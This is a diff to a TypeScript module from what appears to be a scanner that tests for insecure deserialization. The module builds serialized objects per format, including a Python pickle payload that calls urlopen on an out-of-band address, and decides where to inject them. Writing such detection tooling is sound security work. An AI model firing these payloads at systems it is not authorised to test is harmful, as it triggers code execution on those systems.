@@ -30,7 +30,8 @@ const mapOfUrl = (host: string): Uint8Array => {
   return Buffer.concat([Buffer.from(MAP_OF_URL, 'base64'), length, name, Buffer.from(END_OF_MAP, 'base64')])
 }
 
-const YAML = 'YAML that names a class'
+export const YAML = 'YAML that names a class'
+export const PICKLE_FORMAT = 'Python pickle'
 
 export const OBJECTS: readonly CallingObject[] = [
   {
@@ -41,7 +42,7 @@ export const OBJECTS: readonly CallingObject[] = [
   },
   {
     flavour: 'Python, pickle',
-    format: 'Python pickle',
+    format: PICKLE_FORMAT,
     of: ({ url }) => `curllib.request\nurlopen\n(S'${url}'\nNI3\ntR.`,
   },
   {
@@ -83,19 +84,23 @@ export const OBJECTS: readonly CallingObject[] = [
 const isYaml = ({ name, value }: ProbePoint): boolean =>
   /(?:^|[^a-z])ya?ml(?:$|[^a-z])/i.test(name) ||
   /^(?:---|%YAML)\s|^[\w"'-]{1,40}:(?:[ \t][^\n]*)?\n\s*(?:-\s|[\w"'-]{1,40}:)/.test(value) ||
-  /^-[ \t][^\n]*\r?\n(?:-[ \t]|[ \t]+[\w"'-]{1,40}:)/.test(value)
+  /^-[ \t][^\n]*\r?\n(?:-[ \t]|[ \t]+[\w"'-]{1,40}:)/.test(value) ||
+  /^-[ \t][\w"'-]{1,40}:[ \t]\S/.test(value)
 
 /** What stands there is, or may be, made of objects. */
 export const holdsObjects = (point: ProbePoint): boolean => isYaml(point) || readingOf(point.value).formats.length > 0
 
 /** A value of a place as one that holds the object, coded alike; null where it would hold none. */
 export const objectFor = (point: ProbePoint, one: CallingObject, address: OobAddress): string | null => {
-  if (one.looksUp && address.host === null) return null
-  const object = one.of(address)
+  return one.looksUp && address.host === null ? null : heldAs(point, one.format, one.of(address))
+}
+
+/** A value of a place as an object of that format, coded alike; null where it would hold none. */
+export const heldAs = (point: ProbePoint, format: string, object: Uint8Array | string): string | null => {
   const read = readingOf(point.value)
-  if (one.format === YAML && isYaml(point)) return read.code(Buffer.from(object))
-  if (one.format === 'JSON') return read.json === null ? null : read.code(Buffer.from(withMember(read.json, object)))
-  return read.formats.includes(one.format) ? read.code(Buffer.from(object)) : null
+  if (format === YAML && isYaml(point)) return read.code(Buffer.from(object))
+  if (format === 'JSON') return read.json === null ? null : read.code(Buffer.from(withMember(read.json, object)))
+  return read.formats.includes(format) ? read.code(Buffer.from(object)) : null
 }
 
 /**
